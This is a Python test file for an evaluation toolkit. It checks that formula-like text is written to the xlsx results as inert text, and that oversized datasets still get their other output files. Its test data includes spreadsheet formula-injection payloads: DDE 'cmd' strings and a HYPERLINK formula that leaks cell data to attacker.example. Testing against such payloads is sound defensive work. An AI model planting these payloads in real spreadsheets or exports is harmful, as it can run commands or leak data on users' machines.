"""Safe result files: text in the xlsx stays text (never a live formula) and reads back as
the same string; a dataset larger than one sheet still gets every other file."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from vlmeval_core import report
from vlmeval_core.report import write_dataset_results
from vlmeval_core.scoring import score

TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1, "click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented",
    "\rcarriage return",
    "a\r\nwindows line",
]


def formula_result(n: int = len(TEXTS)) -> pd.DataFrame:
    frame = pd.DataFrame(
        {
            "index": [i - 20 for i in range(n)],  # negative numbers stay numbers
            "question": [TEXTS[i % len(TEXTS)] for i in range(n)],
            "category": [TEXTS[(i + 1) % len(TEXTS)] for i in range(n)],
            "answer": ["A"] * n,
            "prediction": [TEXTS[(i + 2) % len(TEXTS)] for i in range(n)],
        }
    )
    return score("vqa", frame)


def test_cells_that_look_like_formulas_are_stored_and_read_back_as_text(tmp_path: Path) -> None:
    write_dataset_results(tmp_path, "m", "Tricky", formula_result())
    xlsx = tmp_path / "Tricky" / "m_Tricky.xlsx"

    cells = [cell for row in load_workbook(xlsx).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a live formula"

    # VLMEvalKit reads its prediction file with pandas.read_excel
    sheet = pd.read_excel(xlsx)
    assert sheet["question"].tolist() == TEXTS
    assert sheet["category"].tolist() == TEXTS[1:] + TEXTS[:1]
    assert sheet["prediction"].tolist() == TEXTS[2:] + TEXTS[:2]
    assert sheet["index"].tolist() == [i - 20 for i in range(len(TEXTS))]
    assert pd.api.types.is_integer_dtype(sheet["index"])


def test_a_dataset_larger_than_a_sheet_gets_every_file_but_the_xlsx(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    out = tmp_path / "Big"
    monkeypatch.setattr(report, "XLSX_MAX_ROWS", 6)  # a sheet of a header and 5 items
    write_dataset_results(tmp_path, "m", "Big", formula_result(5))
    assert pd.read_excel(out / "m_Big.xlsx").shape[0] == 5
    assert not caplog.records

    write_dataset_results(tmp_path, "m", "Big", formula_result(6))

    assert not (out / "m_Big.xlsx").exists(), "the smaller table would disagree"
    lines = (out / "predictions.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["prediction"] for line in lines] == [
        TEXTS[(i + 2) % len(TEXTS)] for i in range(6)
    ]
    assert json.loads((out / "scores.json").read_text())["n"] == 6
    assert (out / "m_Big_acc.csv").is_file()
    notes = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert notes == [
        "vlmeval: note: Big: 6 items do not fit in one xlsx sheet (6 rows with the header), "
        "so m_Big.xlsx is not written; predictions.jsonl holds every item"
    ]
